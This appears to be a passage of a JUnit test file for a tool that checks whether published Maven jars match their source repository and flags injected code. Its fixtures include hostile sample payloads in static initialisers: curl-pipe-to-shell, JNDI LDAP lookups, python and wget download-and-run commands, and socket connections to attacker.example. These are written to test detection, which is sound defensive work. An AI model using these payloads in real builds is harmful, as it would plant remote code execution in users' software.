                    + "        new ProcessBuilder(\"xdg-open\", url).start();\n    }\n}\n";
            case "jndi" -> "package org.acme;\n\npublic class Browser {\n    public Object lookup(String name) throws Exception {\n"
                    + "        return Class.forName(name).getDeclaredConstructor().newInstance();\n    }\n}\n";
            default -> "package org.acme\n\nclass Browser {\n  def greet() { 'hi' }\n}\n";
        };
        String compiled = switch (what) {
            case "shell" -> source.replace("    public static void open", "    static { try { new ProcessBuilder(\"sh\", \"-c\", "
                    + "\"curl -s https://attacker.example/p | sh\").start(); } catch (Exception e) { } }\n    public static void open");
            case "jndi" -> source.replace("    public Object lookup", "    static { try { ((javax.naming.Context) "
                    + "Class.forName(\"javax.naming.InitialContext\").getDeclaredConstructor().newInstance())"
                    + ".lookup(\"ldap://attacker.example:1389/x\"); } catch (Exception e) { } }\n    public Object lookup");
            default -> "package org.acme;\npublic class Browser {\n    static { try { java.nio.channels.SocketChannel.open("
                    + "new java.net.InetSocketAddress(\"attacker.example\", 443)); } catch (Exception e) { } }\n"
                    + "    public Object greet() { return \"hi\"; }\n}\n";
        };
        String path = what.equals("channel") ? "src/main/groovy/org/acme/Browser.groovy" : "org/acme/Browser.java";
        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Browser.java", compiled), "--release", "11");
        ArtifactReport a = artifact(scanJar(greeterTree(path, source), "3.0.0", classes), ".jar");
        FileDivergence f = row(a, "org/acme/Browser.class");
        assertNotEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId(), f.toString());
        assertTrue(f.highRisk() || what.equals("jndi"), f.toString());
        assertNotEquals(Verdict.EXPLAINED, a.verdict());
    }

    /**
     * Red team round 8: a class whose source legitimately starts a process, compiled with a static initialiser that
     * runs an interpreter on inline code, or a download then a shell as separate argv words (c9); a class of a Groovy
     * source reaching the network through a socket factory, or defining a module layer (c4). A class compiled from
     * its own source, string escapes and all, stays explained.
     */
    @ParameterizedTest
    @ValueSource(strings = {"python -c", "split argv", "socket factory", "module layer", "own source"})
    void whatASourceThatStartsProcessesNeverWroteIsBeyondIt(String what) throws Exception {
        // commons-io's FileSystemUtils: javac folds "Command line '" + DF + "' did not…" into one constant
        String source = "package org.acme;\n\npublic class Browser {\n    static final String SEP = \"a\\tb\\n\\\"q\\\"\";\n"
                + "    static final String DF = \"df\";\n    static final String MSG = \"Command line '\" + DF + \"' failed\";\n"
                + "    public static void open(String url) throws Exception {\n"
                + "        new ProcessBuilder(\"xdg-open\", url).start();\n    }\n}\n";
        String extra = switch (what) {
            case "python -c" -> "static { try { new ProcessBuilder(\"python3\", \"-c\", \"import urllib.request as u;"
                    + "exec(u.urlopen('https://attacker.example/p').read())\").start(); } catch (Exception e) { } }\n";
            case "split argv" -> "static { try { new ProcessBuilder(\"wget\", \"-q\", \"-O\", \"/tmp/x\", "
                    + "\"https://attacker.example/x\").start().waitFor(); new ProcessBuilder(\"sh\", \"/tmp/x\").start(); }"
                    + " catch (Exception e) { } }\n";
            case "socket factory" -> "static { try { javax.net.ssl.SSLSocketFactory.getDefault().createSocket("
                    + "\"attacker.example\", 443).getOutputStream().write(1); } catch (Exception e) { } }\n";
            case "module layer" -> "static { try { java.lang.module.Configuration c = ModuleLayer.boot().configuration()"
                    + ".resolve(java.lang.module.ModuleFinder.of(java.nio.file.Path.of(\"/tmp/p\")), "
                    + "java.lang.module.ModuleFinder.of(), java.util.Set.of(\"p\")); ModuleLayer l = ModuleLayer.boot()"
                    + ".defineModulesWithOneLoader(c, ClassLoader.getSystemClassLoader()); java.util.ServiceLoader.load(l, "
                    + "Runnable.class).forEach(Runnable::run); } catch (Exception e) { } }\n";
            default -> "";
        };
        String compiled = source.replace("    public static void open", "    " + extra + "    public static void open");
        boolean groovy = what.equals("socket factory") || what.equals("module layer");
        String path = groovy ? "src/main/groovy/org/acme/Browser.groovy" : "org/acme/Browser.java";
        String sourceText = groovy ? "package org.acme\n\nclass Browser {\n  static void open(String url) {\n"
                + "    new ProcessBuilder('xdg-open', url).start()\n  }\n}\n" : source;
        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Browser.java", compiled), "--release", "11");
        ArtifactReport a = artifact(scanJar(greeterTree(path, sourceText), "3.0.0", classes), ".jar");
        FileDivergence f = row(a, "org/acme/Browser.class");
        if (what.equals("own source")) {
            assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId(), f.toString());
            return;
        }
        assertNotEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId(), f.toString());
        assertTrue(f.highRisk(), f.toString());
    }

    @Test
    void theNoticeApacheJarResourceBundleWritesIsGeneratedAndAnotherTextIsNot() throws Exception {
        // objenesis: maven-remote-resources-plugin with org.apache:apache-jar-resource-bundle:1.3
        String pom = "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version>"
                + "<name>Acme</name><inceptionYear>2006</inceptionYear><organization><name>Acme Corp</name></organization>"
                + "<build><plugins><plugin><artifactId>maven-remote-resources-plugin</artifactId><executions><execution>"
                + "<goals><goal>process</goal></goals><configuration><resourceBundles><resourceBundle>"
                + "org.apache:apache-jar-resource-bundle:1.3</resourceBundle></resourceBundles></configuration></execution>"
                + "</executions></plugin></plugins></build></project>\n";
        SortedMap<String, byte[]> tree = files("pom.xml", pom, "src/main/java/org/acme/Widget.java",
                "package org.acme;\npublic class Widget {}\n");
        String rule = "// ------------------------------------------------------------------\n";
        String notice = rule + "// NOTICE file corresponding to the section 4d of The Apache License,\n"
                + "// Version 2.0, in this case for Acme\n" + rule + "\nAcme\nCopyright 2006-2022 Acme Corp\n\n\n";
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("META-INF/NOTICE", utf8(notice));
        jar.put("META-INF/LICENSE", utf8("Not the Apache License.\n"));
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        FileDivergence n = row(a, "META-INF/NOTICE");
        assertEquals(MavenGeneratedFiles.REMOTE_RESOURCES, n.ruleId(), n.toString());
        assertNotEquals(MavenGeneratedFiles.REMOTE_RESOURCES, row(a, "META-INF/LICENSE").ruleId());
        jar.put("META-INF/NOTICE", utf8(notice.replace("Acme Corp", "Acme Corp\nSee https://attacker.example")));
        jar.remove("META-INF/LICENSE");
        ArtifactReport b = artifact(scanPublished(java.nio.file.Files.createTempDirectory(dir, "notice"), tree, "3.0.0",
                Map.of(".pom", utf8(pom), ".jar", LocalMaven.jar(jar))), ".jar");
        assertNotEquals(MavenGeneratedFiles.REMOTE_RESOURCES, row(b, "META-INF/NOTICE").ruleId());
        // maven-remote-resources-plugin 3.x (Velocity 2) leaves one blank line more after the name and one more at
        // the end (objenesis 3.4); either alone, or more, is not what either version writes
        for (String[] gap : new String[][] {{"\n", "\n"}, {"\n", ""}, {"", "\n"}, {"\n\n", "\n"}}) {
            jar.put("META-INF/NOTICE", utf8(notice.replace("in this case for Acme\n", "in this case for Acme\n" + gap[0])
                    + gap[1]));
            ArtifactReport c = artifact(scanPublished(java.nio.file.Files.createTempDirectory(dir, "notice"), tree, "3.0.0",
                    Map.of(".pom", utf8(pom), ".jar", LocalMaven.jar(jar))), ".jar");
            FileDivergence v2 = row(c, "META-INF/NOTICE");
            boolean velocity2 = gap[0].equals("\n") && gap[1].equals("\n");
            assertEquals(velocity2, MavenGeneratedFiles.REMOTE_RESOURCES.equals(v2.ruleId()), v2.toString());
        }
    }

    @Test
    void aJarIndexNamingOnlyThisJarIsGeneratedAndOneSendingPackagesElsewhereIsNot() throws Exception {
        // red team round 7 (case9): URLClassPath loads a listed package from the jar the index names, URLs included
        String greeter = "package org.acme;\n\npublic class Greeter {\n    public String greet() { return \"hi\"; }\n}\n";
        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Greeter.java", greeter), "--release", "11");
        Map<String, byte[]> jar = new LinkedHashMap<>(classes);
        jar.put("META-INF/INDEX.LIST", utf8("JarIndex-Version: 1.0\n\nacme-core-3.0.0.jar\norg\norg/acme\n\n"));
        FileDivergence own = row(artifact(scanJar(greeterTree("org/acme/Greeter.java", greeter), "3.0.0", jar), ".jar"),
                "META-INF/INDEX.LIST");
        assertEquals(MavenGeneratedFiles.JAR_INDEX, own.ruleId(), own.toString());
        jar.put("META-INF/INDEX.LIST", utf8("JarIndex-Version: 1.0\n\nacme-core-3.0.0.jar\norg/acme\n\n"
                + "https://attacker.example/p.jar\norg/slf4j\norg/slf4j/impl\n\n"));
        ArtifactReport a = artifact(scanPublished(java.nio.file.Files.createTempDirectory(dir, "index"),
                greeterTree("org/acme/Greeter.java", greeter), "3.0.0", Map.of(".pom", greeterTree().get("pom.xml"),
                        ".jar", LocalMaven.jar(jar))), ".jar");
        FileDivergence other = row(a, "META-INF/INDEX.LIST");
        assertEquals(MavenGeneratedFiles.JAR_INDEX_OTHER_JAR, other.ruleId(), other.toString());
        assertTrue(other.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    /**
     * Red team round 7 (case11): a class the class reader refuses (there, a Code sub-attribute HotSpot skips) was
     * explained as compiled from its source with none of its code read. A class that cannot be read is never
     * explained; one refused only for a class-file version newer than the reader knows is DIVERGENT.
     */
    @Test
    void aClassTheReaderRefusesIsNeverCompiledFromSource() throws Exception {
        String greeter = "package org.acme;\n\npublic class Greeter {\n    public String greet() { return \"hi\"; }\n}\n";
        byte[] good = LocalMaven.javac(Map.of("org/acme/Greeter.java", greeter), "--release", "11").get("org/acme/Greeter.class");
        byte[] truncated = java.util.Arrays.copyOf(good, good.length - 40);
        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Greeter.java", greeter), "3.0.0",
                Map.of("org/acme/Greeter.class", truncated)), ".jar");
        FileDivergence f = row(a, "org/acme/Greeter.class");
        assertEquals(MavenGeneratedFiles.CLASS_UNREADABLE, f.ruleId(), f.toString());
        assertTrue(f.highRisk(), f.toString());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
        byte[] future = good.clone();
        future[6] = 0;
        future[7] = 99; // a class-file version no reader knows yet
        ArtifactReport b = artifact(scanPublished(java.nio.file.Files.createTempDirectory(dir, "future"),
                greeterTree("org/acme/Greeter.java", greeter), "3.0.0", Map.of(".pom", greeterTree().get("pom.xml"),
                        ".jar", LocalMaven.jar(Map.of("org/acme/Greeter.class", future)))), ".jar");
        FileDivergence g = row(b, "org/acme/Greeter.class");
        assertEquals(MavenGeneratedFiles.CLASS_UNREADABLE, g.ruleId(), g.toString());
        assertFalse(g.highRisk(), g.toString());
        assertEquals(Verdict.DIVERGENT, b.verdict());
    }

    @Test
    void aVisibilityBridgeToAMethodNamedLikeADeniedApiIsNotAUseOfIt() throws Exception {
        // bcel 6.4-6.14: public ClassPathRepository over package-private AbstractClassPathRepository's loadClass
        String base = "package org.acme;\n\nabstract class Base {\n    public Object loadClass(String n) { return n; }\n}\n";
        String repo = "package org.acme;\n\npublic class Repo extends Base {\n}\n";
        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Base.java", base, "org/acme/Repo.java", repo),
                "--release", "11");
        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Base.java", base, "org/acme/Repo.java", repo), "3.0.0",
                classes), ".jar");
        FileDivergence f = row(a, "org/acme/Repo.class");
        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId(), f.toString());
        assertEquals(Verdict.EXPLAINED, a.verdict());
    }

    @Test
    void aClassWhoseSourceCallsTheApiItselfStaysCompiledFromSource() throws Exception {
        String runner = "package org.acme;\n\npublic class Runner {\n    public static Process run(String cmd) throws Exception {\n"
                + "        return new ProcessBuilder(cmd).start();\n    }\n"
                + "    static { System.loadLibrary(\"acme\"); }\n}\n";
        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Runner.java", runner), "--release", "11");
        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Runner.java", runner), "3.0.0", classes), ".jar");
        FileDivergence f = row(a, "org/acme/Runner.class");
        assertEquals(FileStatus.GENERATED, f.status());
        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId());
        assertFalse(f.highRisk());
        assertEquals(Verdict.EXPLAINED, a.verdict());
    }

    @Test
    void aClassImplementingATypeItsSourceNeverNamesIsNotCompiledFromItButAnEnumOrRecordIs() throws Exception {
        String driver = GREETER.replace("public class Greeter {", "public abstract class Greeter implements java.sql.Driver {");
        Map<String, byte[]> classes = new LinkedHashMap<>(LocalMaven.javac(Map.of("org/acme/Greeter.java", driver),
                "--release", "11"));
        String kinds = "package org.acme;\n\npublic enum Kind {\n    A {\n        int n() { return 1; }\n    };\n"
                + "    int n() { return 0; }\n    record Pair(int a, int b) implements Comparable<Pair> {\n"
                + "        public int compareTo(Pair o) { return 0; }\n    }\n}\n";
        classes.putAll(LocalMaven.javac(Map.of("org/acme/Kind.java", kinds), "--release", "17"));
        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Greeter.java", GREETER, "org/acme/Kind.java", kinds),
                "3.0.0", classes), ".jar");
        FileDivergence f = row(a, "org/acme/Greeter.class");
        assertEquals(FileStatus.MODIFIED, f.status());
        assertEquals(MavenGeneratedFiles.CLASS_SUPERTYPES_NOT_IN_SOURCE, f.ruleId());
        assertTrue(f.detail().orElseThrow().contains("java.sql.Driver"), f.detail().toString());
        for (String p : List.of("org/acme/Kind.class", "org/acme/Kind$1.class", "org/acme/Kind$Pair.class")) {
            assertEquals(FileStatus.GENERATED, row(a, p).status(), p);
            assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, row(a, p).ruleId(), p);
        }
        assertEquals(Verdict.DIVERGENT, a.verdict());
    }

    private static final String MODULE = "module org.acme {\n    requires java.sql;\n    exports org.acme;\n"
            + "    provides java.sql.Driver with org.acme.Greeter;\n}\n";

    /** Greeter (a java.sql.Driver its source declares) and a module-info.class compiled from {@link #MODULE}. */
    private static Map<String, byte[]> driverJar() throws Exception {
        Map<String, byte[]> classes = LocalMaven.javac(Map.of("module-info.java", MODULE, "org/acme/Greeter.java", DRIVER_SOURCE),
                "--release", "11");
        assertTrue(classes.containsKey("module-info.class"), classes.keySet().toString());
        return classes;
    }

    /** A JDBC driver (a service provider must be a concrete class with a public no-argument constructor). */
    private static final String DRIVER_SOURCE = "package org.acme;\n\nimport java.sql.*;\nimport java.util.Properties;\n"
            + "public class Greeter implements Driver {\n"
            + "    public Connection connect(String u, Properties p) { return null; }\n"
            + "    public boolean acceptsURL(String u) { return false; }\n"
            + "    public DriverPropertyInfo[] getPropertyInfo(String u, Properties p) { return new DriverPropertyInfo[0]; }\n"
            + "    public int getMajorVersion() { return 1; }\n    public int getMinorVersion() { return 0; }\n"
            + "    public boolean jdbcCompliant() { return false; }\n"
            + "    public java.util.logging.Logger getParentLogger() { return null; }\n}\n";

    @Test
    void aGeneratedModuleInfoProvidingAServiceTheSourceDoesNotDeclareIsHighRisk() throws Exception {
        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Greeter.java", DRIVER_SOURCE), "3.0.0", driverJar()), ".jar");
        FileDivergence f = row(a, "module-info.class");
        assertEquals(FileStatus.PHANTOM, f.status());
        assertEquals(MavenGeneratedFiles.NEW_SERVICE_PROVIDER, f.ruleId());
        assertTrue(f.detail().orElseThrow().contains("java.sql.Driver with org.acme.Greeter"), f.detail().toString());
        assertTrue(f.riskFlags().contains(dev.divergence.model.RiskFlag.AUTO_EXEC));
        assertTrue(f.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @ParameterizedTest
    @ValueSource(strings = {"services", "module-info.java", "moditect"})
    void aModuleInfoWhoseProvidersTheSourceDeclaresIsExplained(String how) throws Exception {
        SortedMap<String, byte[]> tree = switch (how) {
            case "services" -> greeterTree("org/acme/Greeter.java", DRIVER_SOURCE,
                    "src/main/resources/META-INF/services/java.sql.Driver", "# our driver\norg.acme.Greeter\n");
            case "module-info.java" -> greeterTree("org/acme/Greeter.java", DRIVER_SOURCE, "module-info.java", MODULE);
            default -> dev.divergence.fixtures.Trees.with(greeterTree("org/acme/Greeter.java", DRIVER_SOURCE), "pom.xml",
                    "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version>"
                            + "<build><plugins><plugin><groupId>org.moditect</groupId><artifactId>moditect-maven-plugin</artifactId>"
                            + "<configuration><module><moduleInfoSource>\n" + MODULE + "</moduleInfoSource></module>"
                            + "</configuration></plugin></plugins></build></project>\n");
        };
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", driverJar()), ".jar");
        FileDivergence f = row(a, "module-info.class");
        assertEquals(FileStatus.GENERATED, f.status(), how);
        assertEquals(how.equals("module-info.java") ? MavenGeneratedFiles.CLASS_FROM_SOURCE
                : MavenGeneratedFiles.GENERATED_MODULE_INFO, f.ruleId(), how);
        assertFalse(f.highRisk());
        assertFalse(a.verdict() == Verdict.HIGH_RISK, a.verdict().toString());
    }

    /** Publishes {@code jarEntries} as the sources jar of VERSION (tagged vVERSION on {@code tree}) and scans it. */
    private ReleaseReport scanSources(SortedMap<String, byte[]> tree, String version, Map<String, byte[]> jarEntries)
            throws Exception {
        return scanPublished(tree, version, Map.of(".pom", tree.get("pom.xml"), "-sources.jar",
                LocalMaven.jar(jarEntries)));
    }

    @ParameterizedTest
    @ValueSource(strings = {"same", "changed", "two roots"})
    void aModuleDescriptorCompiledFromAJava9RootIsComparedWithThatFileAndOnlyWithIt(String c) throws Exception {
        // picocli 4.6: a Java 8 main root, src/main/java9/module-info.java compiled into the base of the jar
        String module = "module org.acme { exports org.acme; }\n";
        SortedMap<String, byte[]> tree = greeterTree("org/acme/Greeter.java", GREETER,
                "src/main/java9/module-info.java", module);
        if (c.equals("two roots")) {
            tree = dev.divergence.fixtures.Trees.with(tree, "src/main/java11/module-info.java", module);
        }
        // the sources jar was built on Windows (CRLF), as picocli's: only the file it is aligned with explains it
        Map<String, byte[]> jar = Map.of("org/acme/Greeter.java", utf8(GREETER), "module-info.java",
                utf8(c.equals("changed") ? "module org.acme { exports org.acme; requires evil.example; }\r\n"
                        : module.replace("\n", "\r\n")));
        FileDivergence f = row(artifact(scanSources(tree, "3.0.0", jar), "-sources.jar"), "module-info.java");
        switch (c) {
            case "same" -> {
                assertEquals(FileStatus.MATCH_NORMALIZED, f.status(), f.toString());
                assertEquals("compare.line-endings", f.ruleId());
                assertEquals("src/main/java9/module-info.java", f.sourcePath().orElseThrow());
            }
            case "changed" -> assertEquals(FileStatus.MODIFIED, f.status(), f.toString());
            default -> assertEquals(FileStatus.PHANTOM, f.status(), f.toString()); // no answer between two roots
        }
    }

    @Test
    void resourcesBesideTheJavaFilesAndInSrcMainResourcesAreBothFound() throws Exception {
        SortedMap<String, byte[]> tree = files(
                "pom.xml", "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>1.0</version></project>\n",
                "src/main/java/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n",
                "src/main/java/org/acme/Gadget.java", "package org.acme;\npublic class Gadget {}\n",
                "src/main/java/org/acme/package.html", "<body>Widgets.</body>\n",
                "src/main/java/org/acme/overview.html", "<body>Overview.</body>\n",
                "src/main/resources/META-INF/native-image/acme/resource-config.json", "{\"resources\": []}\n",
                "src/test/resources/org/acme/notes.txt", "fixture\n");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        for (String p : List.of("org/acme/Widget.java", "org/acme/Gadget.java", "org/acme/package.html")) {
            jar.put(p, tree.get("src/main/java/" + p));
        }
        jar.put("org/acme/overview.html", utf8("<body>Overview.</body><script>fetch('//x')</script>\n"));
        jar.put("META-INF/native-image/acme/resource-config.json",
                tree.get("src/main/resources/META-INF/native-image/acme/resource-config.json"));
        jar.put("org/acme/notes.txt", utf8("not the fixture\n"));
        ArtifactReport a = artifact(scanSources(tree, "1.0", jar), "-sources.jar");
        FileDivergence pkg = row(a, "org/acme/package.html");
        assertEquals(FileStatus.MATCH, pkg.status());
        assertEquals("src/main/java/org/acme/package.html", pkg.sourcePath().orElseThrow());
        FileDivergence json = row(a, "META-INF/native-image/acme/resource-config.json");
        assertEquals(FileStatus.MATCH, json.status());
        assertEquals("src/main/resources/META-INF/native-image/acme/resource-config.json", json.sourcePath().orElseThrow());
        // found in its root, compared there: a changed file is MODIFIED, not explained by being found
        FileDivergence overview = row(a, "org/acme/overview.html");
        assertEquals(FileStatus.MODIFIED, overview.status());
        assertEquals("src/main/java/org/acme/overview.html", overview.sourcePath().orElseThrow());
        // a test fixture's path is not a root the jar packages from
        FileDivergence notes = row(a, "org/acme/notes.txt");
        assertEquals(FileStatus.PHANTOM, notes.status());
        assertTrue(!notes.sourcePath().orElse("").startsWith("src/test/"), notes.sourcePath().toString());
        assertEquals(List.of("org/acme/notes.txt", "org/acme/overview.html"), a.divergentPaths().stream().sorted().toList());
        assertTrue(a.files().stream().noneMatch(f -> f.status() == FileStatus.SOURCE_ONLY), "every source file shipped");
    }

    private static String crlf(byte[] lf) {
        return new String(lf, StandardCharsets.UTF_8).replace("\n", "\r\n");
    }

    /**
     * An old commit holding two stray files the sources jar also ships (byte for byte), then the release commit whose
     * .java files the jar ships with CRLF line endings (built on Windows), tagged when {@code tag}.
     */
    private ReleaseReport scanWindowsSourcesJar(boolean tag, String declared, String payloadLine) throws Exception {
        SortedMap<String, byte[]> old = files(
                "pom.xml", "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>1.0</version></project>\n",
                "src/java/org/acme/notes.txt", "stray", "src/java/org/acme/more.txt", "also stray");
        SortedMap<String, byte[]> release = files(
                "pom.xml", "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>" + declared
                        + "</version></project>\n",
                "src/main/java/org/acme/A.java", "package org.acme;\n\npublic class A {\n}\n",
                "src/main/java/org/acme/B.java", "package org.acme;\n\npublic class B {\n  int b;\n}\n",
                "src/main/java/org/acme/C.java", "package org.acme;\n\npublic class C {\n  int c;\n}\n",
                "src/main/java/org/acme/D.java", "package org.acme;\n\npublic class D {\n  int d;\n}\n");
        try (GitHistoryBuilder git = GitHistoryBuilder.init(dir.resolve("repo"))) {
            git.commit(old, "1.0", Instant.parse("2025-01-01T00:00:00Z"));
            git.commit(release, "2.0", Instant.parse("2026-01-01T00:00:00Z"));
            if (tag) {
                git.tag("v2.0", true);
            }
        }
        Map<String, byte[]> jar = new LinkedHashMap<>();
        for (String c : List.of("A", "B", "C", "D")) {
            String text = crlf(release.get("src/main/java/org/acme/" + c + ".java"));
            jar.put("org/acme/" + c + ".java", utf8(c.equals("D") ? text + payloadLine : text));
        }
        jar.put("org/acme/notes.txt", old.get("src/java/org/acme/notes.txt"));
        jar.put("org/acme/more.txt", old.get("src/java/org/acme/more.txt"));
        try (LocalMaven repo = new LocalMaven(dir.resolve("m2"), "org.acme", "acme-core")) {
            repo.metadata(List.of("2.0"));
            repo.file("2.0", "-sources.jar", LocalMaven.jar(jar), null);
            MavenSupport support = new MavenSupport(repo.baseUrl(), ScanWorld.fetcher());
            Release r = support.registry().releases(PackageId.parse("pkg:maven/org.acme/acme-core")).get(0);
            return ScanWorld.scanner(support, dir).scan(r, Optional.of(dir.resolve("repo").toString()));
        }
    }

    @Test
    void aSourcesJarBuiltOnWindowsIsLocatedAtItsTagNotAtACommitHoldingTwoStrayFiles() throws Exception {
        ReleaseReport r = scanWindowsSourcesJar(true, "2.0", "");
        assertEquals(RefMethod.TAG, r.ref().method(), r.ref().note().orElse(""));
        assertTrue(r.ref().note().orElseThrow().contains("kept tag commit"), r.ref().note().orElseThrow());
        ArtifactReport a = artifact(r, "-sources.jar");
        for (String c : List.of("A", "B", "C", "D")) {
            FileDivergence f = row(a, "org/acme/" + c + ".java");
            assertEquals(FileStatus.MATCH_NORMALIZED, f.status(), c);
            assertEquals(dev.divergence.compare.Normalizations.LINE_ENDINGS, f.ruleId(), c);
            assertEquals("src/main/java/org/acme/" + c + ".java", f.sourcePath().orElseThrow());
        }
        // the stray files are what they are: content from an older commit, not at the release
        assertEquals(FileStatus.IN_HISTORY, row(a, "org/acme/notes.txt").status());
        assertEquals(List.of("org/acme/more.txt", "org/acme/notes.txt"), a.divergentPaths().stream().sorted().toList());
    }

    @Test
    void withoutATagAWindowsSourcesJarIsLocatedByItsLineEndingNormalisedFilesAndAPayloadStaysModified() throws Exception {
        ReleaseReport r = scanWindowsSourcesJar(false, "2.0-SNAPSHOT", "class Evil { static { Runtime.getRuntime(); } }\r\n");
        assertEquals(RefMethod.BLOB_OVERLAP, r.ref().method());
        assertTrue(r.ref().note().orElseThrow().contains("overlap scored after line-ending normalisation of 4"),
                r.ref().note().orElseThrow());
        assertTrue(r.ref().candidates().get(0).endsWith(":3/7"), r.ref().candidates().toString());
        ArtifactReport a = artifact(r, "-sources.jar");
        assertEquals(dev.divergence.compare.Normalizations.LINE_ENDINGS, row(a, "org/acme/A.java").ruleId());
        FileDivergence d = row(a, "org/acme/D.java");
        assertEquals(FileStatus.MODIFIED, d.status());
        assertEquals("src/main/java/org/acme/D.java", d.sourcePath().orElseThrow());
    }

    @Test
    void dataTheBuildComputesWithTheProjectsOwnClassIsBuildOutputAndNothingElseIs() throws Exception {
        // joda-time's POM runs ZoneInfoCompiler at compile time: -dst ${project.build.outputDirectory}/.../tz/data
        String pom = "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version>\n"
                + "<build><plugins>\n<plugin><groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId>\n"
                + "<executions><execution><id>compile-tzdb</id><phase>compile</phase><goals><goal>java</goal></goals>"
                + "</execution></executions>\n<configuration><mainClass>org.acme.tz.ZoneCompiler</mainClass><arguments>"
                + "<argument>-src</argument><argument>${project.build.sourceDirectory}/org/acme/tz/src</argument>"
                + "<argument>-dst</argument><argument>${project.build.outputDirectory}/org/acme/tz/data</argument>"
                + "</arguments></configuration></plugin>\n"
                + "<plugin><artifactId>maven-antrun-plugin</artifactId><configuration><tasks>"
                + "<java classname=\"com.other.Gen\"><arg line=\"-dst ${project.build.outputDirectory}/org/acme/gen\"/></java>"
                + "</tasks></configuration></plugin>\n</plugins></build></project>\n";
        SortedMap<String, byte[]> tree = files("pom.xml", pom,
                "src/main/java/org/acme/tz/ZoneCompiler.java", "package org.acme.tz;\npublic class ZoneCompiler {}\n",
                "src/main/java/org/acme/tz/src/europe", "Zone Europe/Paris 0:09:21 - LMT 1891\n");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/tz/ZoneCompiler.class", CLASS);
        jar.put("org/acme/tz/data/Europe/Paris", new byte[] {0, 1, 'P', 'a', 'r', 'i', 's', 0, 0, 9, 21});
        jar.put("org/acme/tz/data/ZoneInfoMap", new byte[] {0, 2, 'U', 'T', 'C', 0});
        jar.put("org/acme/tz/datax/Europe/Paris", new byte[] {0, 1, 'P'});
        jar.put("org/acme/gen/blob", new byte[] {0, 7});
        jar.put("org/acme/tz/data/Europe/Berlin", new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0});
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        for (String p : List.of("org/acme/tz/data/Europe/Paris", "org/acme/tz/data/ZoneInfoMap")) {
            FileDivergence f = row(a, p);
            assertEquals(FileStatus.BUILD_OUTPUT, f.status(), p);
            assertEquals(MavenGeneratedFiles.BUILD_GENERATOR_OUTPUT, f.ruleId(), p);
            assertTrue(!f.highRisk(), p);
        }
        // a folder that only starts like it, and one written by a class the repository does not have: unexplained
        assertEquals(FileStatus.PHANTOM, row(a, "org/acme/tz/datax/Europe/Paris").status());
        assertEquals(FileStatus.PHANTOM, row(a, "org/acme/gen/blob").status());
        // native code in the generator's folder is build output carrying a binary: HIGH_RISK
        FileDivergence elf = row(a, "org/acme/tz/data/Europe/Berlin");
        assertEquals(FileStatus.BUILD_OUTPUT, elf.status());
        assertTrue(elf.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
        assertEquals(3, dev.divergence.compare.Verdicts.unverifiedCount(a.files()) - 1, "2 data files + ELF + the class");
    }

    @Test
    void dataAMaven1GoalComputesWithTheProjectsOwnClassIsBuildOutput() throws Exception {
        // joda-time 1.x: maven.xml's postGoal java:compile runs ZoneInfoCompiler into ${maven.build.dest}
        SortedMap<String, byte[]> tree = files(
                "pom.xml", "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version></project>\n",
                "maven.xml", "<project xmlns:ant=\"jelly:ant\">\n  <postGoal name=\"java:compile\">\n"
                        + "    <ant:java classname=\"org.acme.tz.ZoneCompiler\" fork=\"true\">\n"
                        + "      <arg line=\"-src ${pom.build.sourceDirectory}/org/acme/tz/src -dst ${maven.build.dest}/org/acme/tz/data\"/>\n"
                        + "    </ant:java>\n  </postGoal>\n</project>\n",
                "src/main/java/org/acme/tz/ZoneCompiler.java", "package org.acme.tz;\npublic class ZoneCompiler {}\n");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/tz/data/Europe/Paris", new byte[] {0, 1, 'P', 'a', 'r', 'i', 's'});
        jar.put("org/acme/tz/Europe/Paris", new byte[] {0, 1, 'P', 'a', 'r', 'i', 's'});
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        assertEquals(MavenGeneratedFiles.BUILD_GENERATOR_OUTPUT, row(a, "org/acme/tz/data/Europe/Paris").ruleId());
        assertEquals(FileStatus.PHANTOM, row(a, "org/acme/tz/Europe/Paris").status());
    }

    /** A JJTree grammar as jexl3 keeps it beside its hand-written nodes; Script and Additive make no node (#void). */
    private static final String GRAMMAR = "options\n{\n   MULTI=true;\n   STATIC=false;\n}\n\nPARSER_BEGIN(Parser)\n"
